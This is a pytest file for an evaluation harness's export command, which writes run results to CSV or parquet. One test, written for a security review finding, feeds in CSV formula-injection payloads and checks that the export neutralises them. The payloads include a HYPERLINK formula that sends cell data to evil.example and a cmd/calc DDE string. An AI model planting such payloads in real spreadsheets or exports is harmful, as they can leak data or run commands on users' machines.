"""`asymmetry export`: run directories as one item table that pandas reads in one line and that
`compare --items` analyses exactly as `compare --results` does."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from harness.cli import main
from harness.export import COLUMNS
from harness.table import load_item_table
from tests.report.test_browser import _runs


def asymmetry(cwd: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "harness", *argv], cwd=cwd, capture_output=True, text=True,
                          timeout=300, check=False, env={**os.environ, "COLUMNS": "200"})


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    with pytest.raises(SystemExit) as done:
        main(list(argv))
    return int(done.value.code or 0), capsys.readouterr().err


@pytest.fixture
def results(tmp_path: Path) -> Path:
    """A results/ folder as the README has it: two run directories and its README.md."""
    folder = tmp_path / "results"
    _runs(folder, "old", "new")
    (folder / "README.md").write_text("Run directories.\n")
    return folder


def test_export_writes_the_item_table_that_pandas_reads_in_one_line(results: Path, tmp_path: Path) -> None:
    globbed = sorted(str(p) for p in results.iterdir())  # what the shell makes of results/*
    done = asymmetry(tmp_path, "export", "--results", *globbed, "--out", "items.parquet")
    assert done.returncode == 0, done.stderr
    assert f"note: left out {results / 'README.md'}: not run directories" in done.stderr
    assert "wrote items.parquet: 480 rows (4 suite(s); models new, old)" in done.stderr

    items = pd.read_parquet(tmp_path / "items.parquet")  # the README's one line
    assert tuple(items.columns) == COLUMNS
    runs = [p for p in results.iterdir() if p.is_dir()]
    expected = load_item_table(results=runs)[list(COLUMNS)].sort_values(["model", "suite", "item_id", "sample"])
    pd.testing.assert_frame_equal(items, expected.reset_index(drop=True), check_dtype=False)


def test_compare_on_the_exported_csv_gives_the_same_estimates_as_on_the_runs(results: Path, tmp_path: Path,
                                                                              capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    runs = sorted(str(p) for p in results.iterdir() if p.is_dir())
    assert cli(capsys, "export", "--results", *runs, "--out", "items.csv")[0] == 0
    common = ("compare", "--before", "old", "--after", "new", "--n-boot", "0")
    assert cli(capsys, *common, "--results", *runs, "--json", "runs.json")[0] == 0
    assert cli(capsys, *common, "--items", "items.csv", "--json", "items.json")[0] == 0
    a, b = (json.loads((tmp_path / name).read_text()) for name in ("runs.json", "items.json"))
    keys = ("suite", "n_items", "before", "after", "gains", "losses", "latent_gain", "latent_gain_ci")
    assert [{k: s[k] for k in keys} for s in a["suites"]] == [{k: s[k] for k in keys} for s in b["suites"]]
    assert a["asymmetry"]["latent"] == b["asymmetry"]["latent"]


def test_export_refuses_an_unknown_format_and_an_existing_file(results: Path, tmp_path: Path, capsys,
                                                               monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    run = str(next(p for p in results.iterdir() if p.is_dir()))
    code, err = cli(capsys, "export", "--results", run, "--out", "items.xlsx")
    assert code == 2 and err.strip() == "error: --out items.xlsx: name a .csv or .parquet file (the suffix picks the format)"
    (tmp_path / "items.csv").write_text("keep me\n")
    code, err = cli(capsys, "export", "--results", run, "--out", "items.csv")
    assert code == 2 and "already exists" in err and "--overwrite" in err
    assert (tmp_path / "items.csv").read_text() == "keep me\n"
    assert cli(capsys, "export", "--results", run, "--out", "items.csv", "--overwrite")[0] == 0
    assert len(pd.read_csv(tmp_path / "items.csv")) == 240


def test_compare_over_a_results_glob_leaves_out_the_readme_with_a_note(results: Path, tmp_path: Path, capsys,
                                                                      monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    globbed = sorted(str(p) for p in results.iterdir())  # results/* includes results/README.md
    assert globbed[0].endswith("README.md")
    for first in (globbed, globbed[::-1]):  # the README as the option's own value, and after it
        code, err = cli(capsys, "compare", "--before", "old", "--after", "new", "--n-boot", "0", "--results", *first,
                        "--json", "-")
        assert code == 0, err
        assert f"note: left out {results / 'README.md'}: not run directories (no manifest.json)" in err
    code, err = cli(capsys, "compare", "--before", "old", "--after", "new", "--results", str(results / "README.md"))
    assert code == 2 and err.startswith("error: ") and "README.md" in err and err.count("\n") == 1


def test_exported_csv_defuses_formulas_and_reads_back_exactly(tmp_path: Path, capsys, monkeypatch) -> None:
    # security review finding 9: a cluster '=HYPERLINK(...)' went into items.csv as a live formula
    from harness.export import item_table
    from harness.run.store import write_run
    from harness.table import items_from_file

    hostile = {"model": "@SUM(1+1)", "suite": '=HYPERLINK("http://evil.example/?"&A1,"open")',
               "cluster": "+cmd|' /C calc'!A0", "item_id": "-2+3", "error": "'=already quoted"}
    runs = []
    for model in (hostile["model"], "new"):
        records = [{"run_id": f"run-{i}", "model": model, "suite": hostile["suite"] if i % 2 else "plain",
                    "suite_version": "1.0.0", "category": "targeted" if i % 2 else "untargeted",
                    "item_id": hostile["item_id"] if i == 1 else f"item-{i}", "item_hash": f"h{i}", "sample": 0,
                    "score": float(i % 3 == 0), "error": hostile["error"] if i == 3 else None,
                    "cluster": hostile["cluster"] if i < 4 else "-0.5", "response": "x", "capability": "coding",
                    "correct": i % 3 == 0, "extracted": None, "latency_s": 0.1, "usage": {},
                    "started_at": "2025-06-01T12:00:00Z"} for i in range(8)]
        runs.append(write_run(tmp_path / f"run-{len(runs)}", {"models": [{"label": model}]}, records))
    monkeypatch.chdir(tmp_path)
    assert cli(capsys, "export", "--results", *map(str, runs), "--out", "items.csv")[0] == 0
    import csv

    with open(tmp_path / "items.csv", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.5"]
    assert not live, live  # every formula starts with an apostrophe; a plain number stays a number
    assert "'" + hostile["suite"] in cells and "''=already quoted" in cells
    back = items_from_file(tmp_path / "items.csv")  # the reader of `compare --items`
    exported = item_table(runs)
    for column in ("model", "suite", "cluster", "item_id", "error"):
        assert back[column].fillna("").astype(str).tolist() == exported[column].fillna("").astype(str).tolist()
    assert set(back["suite"]) == {hostile["suite"], "plain"} and hostile["cluster"] in set(back["cluster"])
